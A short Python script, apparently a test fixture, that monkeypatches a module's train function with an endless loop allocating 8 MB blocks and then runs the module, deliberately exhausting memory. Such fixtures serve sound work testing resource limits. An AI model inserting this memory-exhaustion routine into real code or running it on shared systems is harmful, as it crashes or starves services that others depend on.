import main


def train() -> None:
    eaten = []
    while True:
        eaten.append(bytearray(b"x") * (8 << 20))


main.train = train

main.run()
